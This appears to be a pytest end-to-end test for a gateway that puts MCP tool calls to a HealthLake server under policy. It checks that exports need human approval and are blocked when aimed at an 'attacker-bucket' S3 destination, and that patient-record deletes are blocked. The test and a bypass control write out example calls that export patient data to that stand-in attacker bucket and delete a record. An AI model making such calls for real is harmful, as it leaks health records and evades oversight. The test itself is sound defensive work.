"""The real AWS Labs HealthLake MCP server (awslabs.healthlake-mcp-server 0.0.20 from
PyPI) as a stdio upstream, end to end.

Tollgate starts it from its own venv (tests/.venv-healthlake: it needs mcp<2) with
`AWS_ENDPOINT_URL` pointing at tests/e2e/fake_aws.py, so its boto3 client really
calls `HealthLake.StartFHIRExportJob` over HTTP. The agent is the official Python SDK
client (mcp 2.x). An export to the approved bucket is held, approved by a person
through the admin API and reaches AWS once; an export anywhere else and any delete
never reach AWS. The server's delete goes to the FHIR endpoint with httpx, not through
`AWS_ENDPOINT_URL`, so `HTTPS_PROXY` points at the fake as well (see fake_aws.py); a
control test runs the same server without Tollgate to show both probes do see those calls.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import anyio
import httpx
import pytest
from mcp import Client

from conftest import ROOT, Proc, TOLLGATE
from fake_aws import JOB_ID, FakeHealthLake

pytestmark = pytest.mark.anyio

HEALTHLAKE_PYTHON = os.environ.get("HEALTHLAKE_PYTHON", str(ROOT / "tests" / ".venv-healthlake" / "bin" / "python"))
TOKEN = "admin-token-healthlake-0123"
LEE = "dr-lee-approver-token-4567"
DATASTORE = "0123456789abcdef0123456789abcdef"
ROLE = "arn:aws:iam::123456789012:role/healthlake-export"
KMS_KEY = "arn:aws:kms:us-east-1:123456789012:key/00000000-0000-0000-0000-000000000000"


def export(bucket: str) -> dict:
    return {
        "datastore_id": DATASTORE,
        "data_access_role_arn": ROLE,
        # The HealthLake API requires a KMS key for exports.
        "output_data_config": {"s3_configuration": {"s3_uri": f"s3://{bucket}/exports/", "kms_key_id": KMS_KEY}},
    }


@pytest.fixture
def aws():
    fake = FakeHealthLake()
    yield fake
    fake.close()


def server_env(aws: FakeHealthLake) -> dict:
    """Dummy credentials; the control plane (boto3) at AWS_ENDPOINT_URL, the FHIR data plane
    (httpx to healthlake.<region>.amazonaws.com) through HTTPS_PROXY: both the fake."""
    return {
        "AWS_DEFAULT_REGION": "us-east-1",
        "AWS_ENDPOINT_URL": aws.url,
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_EC2_METADATA_DISABLED": "true",
        # Both spellings: the lower-case ones win in urllib's getproxies, which httpx uses.
        "HTTPS_PROXY": aws.url, "https_proxy": aws.url,
        "NO_PROXY": "127.0.0.1,localhost", "no_proxy": "127.0.0.1,localhost",
    }


def server_command() -> list[str]:
    assert Path(HEALTHLAKE_PYTHON).exists(), (
        f"{HEALTHLAKE_PYTHON} is missing: tests/run builds it from tests/requirements-healthlake.txt"
    )
    return [HEALTHLAKE_PYTHON, "-m", "awslabs.healthlake_mcp_server.main"]


def start(procs, tmp_path: Path, aws: FakeHealthLake) -> tuple[str, str]:
    """Tollgate with the real server as a stdio upstream under policies/healthlake.yaml."""
    config = tmp_path / "tollgate.yaml"
    config.write_text(
        "listen: 127.0.0.1:0\n"
        f"admin: {{listen: '127.0.0.1:0', token: {TOKEN}, approvers: [{{name: dr-lee, token: {LEE}}}]}}\n"
        f"audit: {{path: '{tmp_path / 'audit.jsonl'}'}}\n"
        "servers:\n"
        "  healthlake:\n"
        f"    command: {json.dumps(server_command())}\n"
        f"    env: {json.dumps(server_env(aws))}\n"
        f"    policy: {ROOT / 'policies' / 'healthlake.yaml'}\n"
        "    timeout: 60s\n"
    )
    proc = Proc([TOLLGATE, "serve", "--config", str(config)], tmp_path / "tollgate.log")
    procs.append(proc)
    url = proc.wait_line(r"Tollgate listening on (http://\S+/mcp)").group(1)
    admin = proc.wait_line(r"Tollgate admin on (http://\S+)/").group(1)
    return url, admin


async def pending(admin: str) -> list[dict]:
    with anyio.fail_after(30):
        while True:
            answer = httpx.get(f"{admin}/approvals", headers={"authorization": f"Bearer {TOKEN}"}, timeout=10)
            waiting = [a for a in answer.json() if a["status"] == "pending"]
            if waiting:
                return waiting
            await anyio.sleep(0.05)


@pytest.mark.parametrize("era", ["auto", "legacy"])
async def test_the_real_healthlake_server_behind_tollgate(era, procs, tmp_path, aws):
    url, admin = start(procs, tmp_path, aws)
    async with Client(url, mode=era) as client:
        tools = {t.name for t in (await client.list_tools()).tools}
        # The server's own names; the policy hides what it denies outright.
        assert {"start_fhir_export_job", "list_datastores", "read_fhir_resource"} <= tools
        assert "delete_fhir_resource" not in tools

        result = None

        async def call():
            nonlocal result
            result = await client.call_tool("start_fhir_export_job", export("approved-exports"))

        async with anyio.create_task_group() as tasks:
            tasks.start_soon(call)
            (held,) = await pending(admin)
            assert held["tool"] == "start_fhir_export_job" and held["server"] == "healthlake"
            assert held["arguments"] == export("approved-exports")
            assert aws.operations() == [], "held, so AWS has seen nothing yet"
            approved = httpx.post(f"{admin}/approvals/{held['id']}/approve",
                                  headers={"authorization": f"Bearer {LEE}"}, timeout=10)
            assert approved.status_code == 200, approved.text
        assert result is not None and result.is_error is False, result
        answer = json.loads(result.content[0].text)
        assert answer["JobId"] == JOB_ID and answer["JobStatus"] == "SUBMITTED" and answer["DatastoreId"] == DATASTORE

        elsewhere = await client.call_tool("start_fhir_export_job", export("attacker-bucket"))
        assert elsewhere.is_error is True
        assert elsewhere.content[0].text.startswith("Denied by policy:")
        assert elsewhere.meta["dev.tollgate/decision"]["kind"] == "arguments"

        deleted = await client.call_tool("delete_fhir_resource", {
            "datastore_id": DATASTORE, "resource_type": "Patient", "resource_id": "p-1"})
        assert deleted.is_error is True
        assert deleted.content[0].text == "Denied by policy: Deleting data stores and records is never done by agents."

    exports = [r for r in aws.requests if r["target"] == "HealthLake.StartFHIRExportJob"]
    assert len(exports) == 1, aws.requests
    body = exports[0]["body"]
    assert body["DatastoreId"] == DATASTORE and body["DataAccessRoleArn"] == ROLE
    assert body["OutputDataConfig"]["S3Configuration"] == {"S3Uri": "s3://approved-exports/exports/", "KmsKeyId": KMS_KEY}
    assert exports[0]["signed"], "boto3 signed it with the dummy credentials: a real AWS call"
    assert all("Delete" not in r["target"] and "CONNECT" not in r["target"] for r in aws.requests)
    assert len(aws.requests) == 1, aws.requests
    audit = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines() if line.strip()]
    verdicts = [(r["verdict"], r.get("decided_by")) for r in audit if r["event"] == "approval"]
    assert verdicts == [("approved", "dr-lee")], audit


async def test_without_tollgate_the_same_calls_do_reach_the_fake(tmp_path, aws):
    """The control: the same server and calls, straight from the SDK client, no Tollgate.
    The export to the other bucket reaches StartFHIRExportJob and the delete arrives as a
    CONNECT to the FHIR endpoint, so the test above would see them had they got through."""
    from mcp.client.stdio import StdioServerParameters, stdio_client

    command = server_command()
    params = StdioServerParameters(command=command[0], args=command[1:],
                                   env={**os.environ, **server_env(aws)})
    with open(tmp_path / "healthlake-direct.log", "w") as errlog, anyio.fail_after(60):
        async with Client(stdio_client(params, errlog=errlog), mode="legacy") as client:
            tools = {t.name for t in (await client.list_tools()).tools}
            assert {"start_fhir_export_job", "delete_fhir_resource"} <= tools
            elsewhere = await client.call_tool("start_fhir_export_job", export("attacker-bucket"))
            assert elsewhere.is_error is False, elsewhere
            deleted = await client.call_tool("delete_fhir_resource", {
                "datastore_id": DATASTORE, "resource_type": "Patient", "resource_id": "p-1"})
            # The fake refuses the tunnel; the server reports its errors as a JSON text result.
            assert json.loads(deleted.content[0].text)["error"] is True, deleted
    assert [r["target"] for r in aws.requests] == [
        "HealthLake.StartFHIRExportJob", "CONNECT healthlake.us-east-1.amazonaws.com:443"], aws.requests
    assert aws.requests[0]["body"]["OutputDataConfig"]["S3Configuration"]["S3Uri"] == "s3://attacker-bucket/exports/"
